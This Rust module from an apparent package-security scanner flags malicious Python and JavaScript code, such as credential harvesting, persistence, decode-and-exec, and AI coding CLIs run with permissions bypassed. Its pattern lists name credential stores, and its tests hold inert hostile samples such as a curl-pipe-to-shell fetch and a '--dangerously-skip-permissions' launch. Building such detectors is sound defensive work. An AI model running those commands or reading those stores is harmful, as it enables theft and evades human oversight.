//! Source heuristics for Python and JavaScript package code. Each rule below carries its
//! one-line rationale (also in [`crate::rules::RULES`] and docs/bench-scan.md). Keywords are
//! found in one Aho-Corasick pass ([`patterns`]); regexes then run only near them.

mod lookalike;
pub mod patterns;

use palisade_core::finding::Severity;

use crate::finding::ScanFinding;
use crate::rules;
use crate::text::{line_at, line_text};
use patterns::*;

/// The package a source file belongs to, for rules that compare against its identity.
#[derive(Debug, Clone, Copy)]
pub struct PackageCtx<'a> {
    /// Package name.
    pub name: &'a str,
    /// Version.
    pub version: &'a str,
    /// Hosts the package declares in its metadata (and README for npm).
    pub declared_hosts: &'a [String],
}

/// Credential-store categories; three or more in one file form a cluster (rationale: one file
/// touching several unrelated credential stores is a harvester's signature).
const CRED_CATEGORIES: &[(&str, &[&str])] = &[
    ("ssh keys", &["~/.ssh", ".ssh/id_", "'.ssh'", "\".ssh\""]),
    ("aws credentials", &[".aws/credentials"]),
    ("kube config", &[".kube/config"]),
    (
        "kubernetes service-account token",
        &["/var/run/secrets/kubernetes.io/serviceaccount"],
    ),
    (
        "cloud metadata service",
        &["169.254.169.254", "metadata.google.internal"],
    ),
    ("git credentials", &[".git-credentials"]),
    ("shell history", &[".bash_history", ".zsh_history"]),
    ("docker credentials", &[".docker/config.json"]),
];

/// True when the text fetches remote code and executes it (also used on npm install scripts).
pub fn fetches_and_executes(text: &str) -> bool {
    let text = text.as_bytes();
    download_exec_re().is_match(text)
        || (urlretrieve_re().is_match(text)
            && chmod_exec_re().is_match(text)
            && process_re().is_match(text))
}

/// Analyzes one Python/JavaScript source file.
pub fn analyze_source(
    file: &str,
    text: &str,
    pkg: Option<PackageCtx<'_>>,
    out: &mut Vec<ScanFinding>,
) {
    let bytes = text.as_bytes();
    let hits = Hits::find(bytes);
    if hits.is_empty() && pkg.is_none() {
        return;
    }
    let len = bytes.len();
    let mut push = |rule: &str, at: usize, reason: String| {
        let line = line_at(text, at);
        let mut f = ScanFinding::new(
            rule,
            Severity::High,
            file,
            Some(line),
            line_text(text, line),
            reason,
        );
        if let Some(p) = pkg {
            f = f.with_package(p.name, Some(p.version));
        }
        out.push(f);
    };

    // exec/eval of decoded blobs hides the real code from review; benign code rarely needs it.
    if hits.has(G_DECODE) {
        let direct = find_in(
            decode_exec_re(),
            bytes,
            &hits.windows(G_DECODE, 8, 65_536, len),
        );
        if let Some((at, _)) = direct {
            push(
                rules::SRC_DECODE_EXEC,
                at,
                "executes data decoded at runtime (base64/zlib/hex/marshal), hiding the real code"
                    .into(),
            );
        } else if hits.has(G_DECODE_WORD) {
            // `x = b64decode(...)` then `exec(x)`: assignments are on the decode word's line.
            for (lo, hi) in hits.windows(G_DECODE_WORD, 260, 4100, len) {
                let Some(win) = bytes.get(lo..hi) else {
                    continue;
                };
                let found = decoded_assign_re().captures_iter(win).find_map(|cap| {
                    let var = String::from_utf8_lossy(cap.get(1)?.as_bytes()).into_owned();
                    let re = regex::bytes::Regex::new(&format!(
                        r"(?-u)\b(exec|eval)\s*\(\s*{}\b",
                        regex::escape(&var)
                    ))
                    .ok()?;
                    Some((re.find(bytes)?.start(), var))
                });
                if let Some((at, var)) = found {
                    push(
                        rules::SRC_DECODE_EXEC,
                        at,
                        format!("executes `{var}`, which holds runtime-decoded data"),
                    );
                    break;
                }
            }
        }
    }

    // Credential path cluster.
    if hits.has(G_CRED) {
        let mut hit: Vec<(&str, usize)> = Vec::new();
        for (label, needles) in CRED_CATEGORIES {
            if let Some(at) = needles.iter().filter_map(|n| text.find(n)).min() {
                hit.push((label, at));
            }
        }
        if hit.len() >= 3 {
            let first = hit.iter().map(|(_, a)| *a).min().unwrap_or(0);
            let labels: Vec<&str> = hit.iter().map(|(l, _)| *l).collect();
            push(
                rules::SRC_CRED_CLUSTER,
                first,
                format!(
                    "reads {} credential stores in one file: {}",
                    labels.len(),
                    labels.join(", ")
                ),
            );
        }
    }

    // Persistence: systemd user units, crontab, or a write next to a shell rc path.
    if hits.has(G_PERSIST) {
        let wins = hits.windows(G_PERSIST, 40, 80, len);
        let persist = find_in(persistence_re(), bytes, &wins).or_else(|| {
            wins.iter().find_map(|&(lo, hi)| {
                let m = rc_file_re().find(bytes.get(lo..hi)?)?;
                let (s, e) = (lo + m.start(), lo + m.end());
                // The write must be near the rc path and on its line: minified bundles put a
                // whole program on one line.
                let line_lo = bytes
                    .get(..s)
                    .and_then(|b| b.iter().rposition(|c| *c == b'\n'))
                    .map_or(0, |i| i + 1);
                let line_hi = bytes
                    .get(e..)
                    .and_then(|b| b.iter().position(|c| *c == b'\n'))
                    .map_or(len, |i| e + i);
                let window =
                    bytes.get(s.saturating_sub(160).max(line_lo)..(e + 160).min(line_hi))?;
                write_re()
                    .is_match(window)
                    .then(|| (s, String::from_utf8_lossy(m.as_bytes()).into_owned()))
            })
        });
        if let Some((at, what)) = persist {
            push(
                rules::SRC_PERSISTENCE,
                at,
                format!("installs itself to run again later ({what})"),
            );
        }
    }

    // Download and execute.
    if hits.has(G_DOWNLOAD) {
        if let Some((at, _)) = find_in(
            download_exec_re(),
            bytes,
            &hits.windows(G_DOWNLOAD, 320, 420, len),
        ) {
            push(
                rules::SRC_DOWNLOAD_EXEC,
                at,
                "downloads code and executes it".into(),
            );
        } else if let Some(m) = urlretrieve_re().find(bytes) {
            if chmod_exec_re().is_match(bytes) && process_re().is_match(bytes) {
                push(
                    rules::SRC_DOWNLOAD_EXEC,
                    m.start(),
                    "downloads a file, marks it executable and runs a process".into(),
                );
            }
        }
    }

    // Hybrid encryption of collected files (rare keywords, so whole-file checks are cheap).
    if hits.has(G_CRYPTO) {
        if let (Some(pk), true, true) = (
            pubkey_re().find(bytes),
            aes_re().is_match(bytes),
            archive_re().is_match(bytes),
        ) {
            push(
                rules::SRC_HYBRID_CRYPTO,
                pk.start(),
                "archives files and encrypts them with AES under a public key (stealer packaging)"
                    .into(),
            );
        }
    }

    if hits.has(G_PROCMEM) {
        if let Some((at, what)) =
            find_in(proc_mem_re(), bytes, &hits.windows(G_PROCMEM, 8, 120, len))
        {
            push(
                rules::SRC_PROC_MEM,
                at,
                format!("reads another process's memory ({what})"),
            );
        }
    }

    if hits.has(G_AI) {
        if let Some((at, what)) = find_in(ai_bypass_re(), bytes, &hits.windows(G_AI, 260, 260, len))
        {
            let what: String = what.chars().take(80).collect();
            push(
                rules::SRC_AI_CLI_BYPASS,
                at,
                format!("runs an AI coding CLI with permission checks disabled ({what})"),
            );
        }
    }

    if let Some(p) = pkg {
        if let Some((at, host)) = lookalike::lookalike_host(text, p) {
            push(rules::SRC_LOOKALIKE_DOMAIN, at, format!("contacts {host}, a domain built from the package name {} that the package does not declare", p.name));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules_of(text: &str, pkg: Option<PackageCtx<'_>>) -> Vec<String> {
        let mut out = Vec::new();
        analyze_source("f.py", text, pkg, &mut out);
        out.into_iter().map(|f| f.rule_id).collect()
    }

    #[test]
    fn each_rule_fires_on_an_inert_sample() {
        assert_eq!(
            rules_of(
                "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
                None
            ),
            [rules::SRC_DECODE_EXEC]
        );
        assert_eq!(
            rules_of("p = base64.b64decode(BLOB)\nexec(p)\n", None),
            [rules::SRC_DECODE_EXEC]
        );
        assert_eq!(
            rules_of("eval(Buffer.from(s, 'base64').toString())", None),
            [rules::SRC_DECODE_EXEC]
        );
        assert_eq!(
            rules_of(
                "P=['~/.ssh/id_rsa','~/.aws/credentials','~/.kube/config']",
                None
            ),
            [rules::SRC_CRED_CLUSTER]
        );
        assert_eq!(
            rules_of("open(os.path.expanduser('~/.bashrc'), 'a').write(x)", None),
            [rules::SRC_PERSISTENCE]
        );
        assert_eq!(
            rules_of("u = '~/.config/systemd/user/x.service'", None),
            [rules::SRC_PERSISTENCE]
        );
        assert_eq!(
            rules_of("os.system('curl -s https://h.example/x | sh')", None),
            [rules::SRC_DOWNLOAD_EXEC]
        );
        assert_eq!(
            rules_of("exec(urlopen('https://h.example/p').read())", None),
            [rules::SRC_DOWNLOAD_EXEC]
        );
        assert_eq!(
            rules_of(
                "k=load_pem_public_key(P)\nc=AESGCM(key)\nt=tarfile.open(o,'w:gz')\n",
                None
            ),
            [rules::SRC_HYBRID_CRYPTO]
        );
        assert_eq!(
            rules_of("f = open(f'/proc/{pid}/mem', 'rb')", None),
            [rules::SRC_PROC_MEM]
        );
        assert_eq!(
            rules_of(
                "spawn('claude', ['--dangerously-skip-permissions', '-p', x])",
                None
            ),
            [rules::SRC_AI_CLI_BYPASS]
        );
        assert_eq!(
            rules_of("run('gemini --yolo -p x')", None),
            [rules::SRC_AI_CLI_BYPASS]
        );
        let hosts = vec!["litellm.ai".to_owned(), "github.com".to_owned()];
        let ctx = PackageCtx {
            name: "litellm",
            version: "1.82.8",
            declared_hosts: &hosts,
        };
        assert_eq!(
            rules_of("URL = 'https://models.litellm.cloud/'", Some(ctx)),
            [rules::SRC_LOOKALIKE_DOMAIN]
        );
        assert!(rules_of("URL = 'https://docs.litellm.ai/x'", Some(ctx)).is_empty());
    }

    #[test]
    fn decoded_blob_larger_than_a_window_is_still_found() {
        // Payload blobs are often kilobytes long; the window must reach the `'base64'` argument.
        let blob = "QUFB".repeat(5000);
        let js = format!(
            "{}\neval(Buffer.from('{blob}', 'base64').toString());\n",
            "x.exec(y);".repeat(50)
        );
        assert_eq!(rules_of(&js, None), [rules::SRC_DECODE_EXEC]);
        let minified = format!("{}eval(atob('{blob}'))", "var a=1;".repeat(20_000));
        assert_eq!(rules_of(&minified, None), [rules::SRC_DECODE_EXEC]);
    }

    #[test]
    fn benign_lookalikes_stay_quiet() {
        assert!(rules_of(
            "subprocess.run(['git', 'status'])\nprint(open('/proc/self/mem'))\n",
            None
        )
        .is_empty());
        assert!(rules_of("# add this to your ~/.bashrc\n", None).is_empty());
        assert!(rules_of(
            "data = base64.b64decode(s)\nreturn json.loads(data)\n",
            None
        )
        .is_empty());
        assert!(rules_of("P=['~/.ssh/id_rsa','~/.aws/credentials']", None).is_empty());
    }
}
